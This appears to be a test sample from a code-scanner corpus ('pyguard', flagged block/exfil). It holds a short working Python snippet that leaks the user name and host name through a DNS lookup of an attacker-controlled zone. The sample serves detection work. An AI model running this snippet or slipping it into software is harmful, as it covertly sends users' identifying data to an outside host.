# pyguard-corpus: verdict=block category=exfil rules=PG603
# what: leaks the user name and host name inside a DNS lookup of an attacker-controlled zone
import getpass
import socket

label = f"{getpass.getuser()}.{socket.gethostname()}"
try:
    socket.gethostbyname(f"{label}.t.example-metrics.net")
except OSError:
    pass
